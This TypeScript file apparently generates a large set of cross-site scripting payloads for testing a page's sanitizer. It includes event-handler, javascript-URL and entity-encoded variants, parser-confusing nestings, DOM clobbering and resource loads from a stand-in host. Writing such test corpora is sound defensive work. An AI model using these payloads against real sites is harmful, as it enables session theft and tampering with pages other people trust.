/*
 * Generated attacks on a page: tags × event attributes × notations, javascript URLs, and nestings that browsers
 * rearrange while parsing. Each calls `xss()`, which none of our pages defines.
 */

const CODE = 'xss()';
/** A foreign host that would learn about the reader. */
const STRANGER = 'https://stranger.invalid';

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onmouseenter',
  'onpointerover',
  'onfocus',
  'onblur',
  'oninput',
  'onchange',
  'ontoggle',
  'onbeforetoggle',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'onwheel',
  'onscroll',
  'onscrollend',
  'oncopy',
  'onpaste',
  'onkeydown',
  'ondragstart',
  'onauxclick',
  'oncontextmenu',
  'onbegin',
  'onend',
  'onloadstart',
  'oncanplay',
  'onpageshow',
  'onresize',
  'onsubmit',
  'oninvalid',
  'onfinish',
  'onstart',
  'onmessage',
  'onhashchange',
  'oncontentvisibilityautostatechange',
] as const;

const CARRIERS: readonly ((attributes: string) => string)[] = [
  (a) => `<img src=/none.png ${a}>`,
  (a) => `<svg ${a}></svg>`,
  (a) => `<p ${a}>x</p>`,
  (a) => `<a href="#" ${a}>x</a>`,
  (a) => `<iframe ${a}></iframe>`,
  (a) => `<body ${a}>`,
  (a) => `<details open ${a}><summary>x</summary></details>`,
  (a) => `<input autofocus ${a}>`,
  (a) => `<video src=/none.mp4 ${a}></video>`,
  (a) => `<math><mi ${a}>x</mi></math>`,
  (a) => `<svg><animate attributeName=x dur=1s ${a} /></svg>`,
  (a) => `<marquee ${a}>x</marquee>`,
  (a) => `<x-y ${a} tabindex=1>x</x-y>`,
  (a) => `<select autofocus ${a}><option>x</select>`,
  (a) => `<object data=/none ${a}></object>`,
  (a) => `<span ${a} style="color:red">x</span>`,
  (a) => `<h1 ${a}>x</h1>`,
];

const WRITINGS: readonly ((event: string, code: string) => string)[] = [
  (e, c) => `${e}="${c}"`,
  (e, c) => `${e}=${c}`,
  (e, c) => `${e.toUpperCase()} = '${c}'`,
  (e, c) => `/${e}=${c}`,
  (e, c) => `${e}\n=\n"${entities(c)}"`,
  (e, c) => `x="y"${e}="${c}"`,
  (e, c) => `\u0000${e}="${c}"`,
  (e, c) => `${e}\f="${c}"`,
  (e, c) => `title='">'${e}="${c}"`,
];

/** Encodes `a` as `&#97;`. */
function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
}

const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java&#x0A;script:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript&#58;${CODE}`,
  `&#106;&#97;vascript:${CODE}`,
  `&#x6A&#x61vascript:${CODE}`,
  `javascript://example.org/%0a${CODE}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${CODE}>*/${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `vbscript:${CODE}`,
  `blob:${CODE}`,
  `view-source:javascript:${CODE}`,
  `https:javascript:${CODE}`,
  `\\\\javascript:${CODE}`,
  `//stranger.invalid/x.js`,
  `${STRANGER}/x.js`,
  `feed:javascript:${CODE}`,
  `jav\u00adascript:${CODE}`,
];

const ADDRESSED: readonly ((address: string) => string)[] = [
  (u) => `<a href="${u}">x</a>`,
  (u) => `<a href='${u}' target=_self>x</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<img src="${u}">`,
  (u) => `<img srcset="${u} 1x">`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<form action="${u}"><button>x</button></form>`,
  (u) => `<button formaction="${u}">x</button>`,
  (u) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`,
  (u) => `<svg><use href="${u}" /></svg>`,
  (u) => `<math href="${u}">x</math>`,
  (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<base href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<video poster="${u}" src="${u}"></video>`,
  (u) => `<input type=image src="${u}">`,
  (u) => `<p style="background:url('${u}')">x</p>`,
  (u) => `<span style="color:red;background-image:url(${u})">x</span>`,
  (u) => `<svg><script href="${u}" /></svg>`,
  (u) => `<iframe srcdoc="${u}"></iframe>`,
  (u) => `<table background="${u}"><td>x</table>`,
  (u) => `<blockquote cite="${u}">x</blockquote>`,
  (u) => `<a href="https://example.org/" ping="${u}">x</a>`,
  (u) => `<svg><image href="${u}" /></svg>`,
  (u) => `<area href="${u}" shape=default>`,
];

const CORES: readonly string[] = [
  `<img src=/none.png onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<script>${CODE}</script>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<style>@import '${STRANGER}/x.css';</style>`,
  `<style>*{background:url(${STRANGER}/x.png)}</style>`,
];

/** Markup that browsers rearrange, close or parse differently from what is written. */
const NESTINGS: readonly ((core: string) => string)[] = [
  (x) => `<math><mtext><table><mglyph><style><!--</style>${x}-->`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<svg><style>&lt;/style&gt;${x}</style></svg>`,
  (x) => `<svg><![CDATA[><${x.slice(1)}]]></svg>`,
  (x) => `<math><annotation-xml encoding="text/html"><style><p title="</style>${x}"></annotation-xml></math>`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg><desc><style><p title="</style>${x}"></desc></svg>`,
  (x) => `<template>${x}</template>`,
  (x) => `<template shadowrootmode=open>${x}</template>`,
  (x) => `<textarea><p title="</textarea>${x}">`,
  (x) => `<title><p title="</title>${x}">`,
  (x) => `<xmp><p title="</xmp>${x}">`,
  (x) => `<iframe><p title="</iframe>${x}">`,
  (x) => `<noembed><p title="</noembed>${x}">`,
  (x) => `<noframes><p title="</noframes>${x}">`,
  (x) => `<!--><${x.slice(1)}-->`,
  (x) => `<!---><${x.slice(1)}-->`,
  (x) => `<!-- --!>${x}-->`,
  (x) => `<!--<!-->${x}`,
  (x) => `<?xml ?>${x}`,
  (x) => `</${x}`,
  (x) => `<![if IE]>${x}<![endif]>`,
  (x) => `<table><tr><td>${x}`,
  (x) => `<table>${x}</table>`,
  (x) => `<select><option>${x}</select>`,
  (x) => `<p><p><b><i></b>${x}</i>`,
  (x) => `<a><table><a>${x}</table>`,
  (x) => `${'<div>'.repeat(80)}${x}`,
  (x) => `${'<b>'.repeat(600)}${x}`,
  (x) => x.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (x) => x.replaceAll('<', '&amp;lt;'),
  (x) => `<<${x}>>`,
  (x) => x.replaceAll('<', '<\u0000'),
  (x) => x.replace(/<(\w)/, '<$1\u0000'),
  (x) => `"><${x.slice(1)}`,
  (x) => `'-->${x}`,
  (x) => `]]>${x}`,
  (x) => `<plaintext>${x}`,
  (x) => `<x${x}`,
  (x) => `<p x="${x.replaceAll('"', '&quot;')}">y</p>`,
  (x) => `<p data-style="x" style='x:${x.replaceAll("'", '')}'>y</p>`,
  (x) => `<span data-style="color:red" style = "color:red">${x}</span>`,
  (x) => `<p title="style=">${x}</p>`,
  (x) => `<img alt="<x style=" style="y">${x}`,
  (x) => `\uFEFF${x}`,
  (x) => `+ADw-script+AD4-${x}`,
  (x) => `<svg><title>${x}</title></svg>`,
  (x) => `<math><mi><b>${x}`,
  (x) => `<svg><p>${x}`,
  (x) => `<p id=root class=modal name=cookie>${x}</p>`,
  (x) => `<form id=document><input name=body>${x}</form>`,
  (x) => `<a id=trustedTypes name=createPolicy>${x}</a>`,
  (x) => `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ">${x}</iframe>`,
];

const OTHERS: readonly string[] = [
  `<p>{{constructor.constructor('${CODE}')()}}</p>`,
  '${xss()}',
  `<div v-html="'${CODE}'">x</div>`,
  `<script type=module>${CODE}</script>`,
  `<script nonce=x>${CODE}</script>`,
  `<script>/*\u2028*/${CODE}</script>`,
  `<svg/onload=${CODE}//`,
  `<img/src=x/onerror=${CODE}/`,
  `<iframe src="https://www.youtube.com.stranger.invalid/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com/redirect?q=${STRANGER}"></iframe>`,
  `<iframe src="https://www.youtube.com@stranger.invalid/embed/dQw4w9WgXcQ"></iframe>`,
  `<p style="x:expression(${CODE})">x</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(${STRANGER}/x.xml)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<link rel=preload as=image href=${STRANGER}/x.png>`,
  `<img src=${STRANGER}/x.png>`,
  `<img src=//stranger.invalid/x.png>`,
  `<audio src=${STRANGER}/x.mp3 autoplay>`,
  `<svg><animate href=#x attributeName=href values=javascript:${CODE} /><a id=x><text>x</text></a></svg>`,
  `<portal src=${STRANGER}>`,
  `<dialog open onclose=${CODE}>x</dialog>`,
];

/** At least 2,000 distinct payloads, always in the same order. */
export function xssPayloads(): readonly string[] {
  const events = EVENTS.flatMap((event, e) =>
    CARRIERS.flatMap((carrier, c) => {
      // Three notations for each pair: together all notations meet all carriers and all events.
      const writings = [0, 3, 6].map((step) => WRITINGS[(e + c + step) % WRITINGS.length] as (typeof WRITINGS)[number]);
      return writings.map((write) => carrier(write(event, CODE)));
    }),
  );
  const addresses = SCRIPT_ADDRESSES.flatMap((address) => ADDRESSED.map((carrier) => carrier(address)));
  const nested = CORES.flatMap((core) => NESTINGS.map((nest) => nest(core)));
  // The wire refuses control characters.
  return [...new Set([...events, ...addresses, ...nested, ...OTHERS])].filter(
    (payload) => !/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/.test(payload),
  );
}
